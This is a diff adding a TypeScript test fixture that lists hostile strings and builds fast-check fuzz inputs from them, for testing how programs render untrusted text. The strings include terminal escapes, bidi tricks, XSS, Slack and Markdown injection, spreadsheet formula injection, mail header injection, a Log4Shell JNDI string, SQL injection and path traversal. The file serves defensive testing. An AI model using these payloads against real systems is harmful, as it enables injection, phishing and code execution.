@@ -1,0 +1,81 @@
+// What an attacker might write into a log, a tag or a name, for every program that shows it to somebody.
+import * as fc from 'fast-check';
+
+/** Each does harm somewhere, if it comes through as it is. */
+export const NASTY: readonly string[] = [
+  '\u001b[31mred\u001b[0m',
+  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
+  '\u001b]0;title\u0007',
+  '\u009b2J',
+  '\u202egnp.exe',
+  '\u2066hidden\u2069',
+  'zero\u200bwidth\u200d\ufeff',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<a href="https://evil.example">ok</a>',
+  '&lt;b&gt; &amp; &#60;',
+  '[click](javascript:alert(1))',
+  '![x](https://evil.example/x.png)',
+  '*bold* _slanted_ ~struck~ `code`',
+  '```\nblock\n```',
+  '| a | b |\n|---|---|',
+  '> quote',
+  '# heading',
+  '- list\n1. list',
+  '<!channel> <!here> <!everyone>',
+  '<@U012AB3CD> <#C012AB3CD|general>',
+  '<https://evil.example|your bank>',
+  '@here @channel @everyone',
+  '#general',
+  ':warning: :+1: :100: :skull_and_crossbones:',
+  '=HYPERLINK("https://evil.example")',
+  '+cmd|calc!A0',
+  '-2+3',
+  '@SUM(1)',
+  '\t=1+1',
+  'a\r\nSubject: paid\r\nBcc: evil@evil.example',
+  'a\nb',
+  'a\rb',
+  'a\u0085b\u2028c\u2029d',
+  '\u0000\u0007\u0008\u007f',
+  '\ufffe\uffff',
+  '\ud800',
+  '\udc00tail',
+  '\u{1f600}\u{e0041}',
+  'https://evil.example/login',
+  'http://evil.example',
+  '//evil.example/login',
+  'evil.example/login',
+  'www.evil.example',
+  'javascript:alert(1)',
+  'file:///etc/passwd',
+  'slack://open?team=T1',
+  'mailto:evil@evil.example?subject=x',
+  'xn--80ak6aa92e.example',
+  '${jndi:ldap://evil.example}',
+  '{{7*7}} %s %n',
+  '"; DROP TABLE keys; --',
+  '__proto__',
+  '../../etc/passwd',
+  'x'.repeat(5_000),
+  '\u202e'.repeat(300),
+  '@'.repeat(400),
+  '',
+  ' ',
+];
+
+/** One of them, two of them with something between, or any characters at all. */
+export const PAYLOAD: fc.Arbitrary<string> = fc.oneof(
+  fc.constantFrom(...NASTY),
+  fc
+    .tuple(
+      fc.constantFrom(...NASTY),
+      fc.string({ unit: 'binary', maxLength: 20 }),
+      fc.constantFrom(...NASTY),
+    )
+    .map((parts) => parts.join('')),
+  fc.string({ unit: 'binary', maxLength: 400 }),
+  fc
+    .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 60 })
+    .map((units) => String.fromCharCode(...units)),
+);
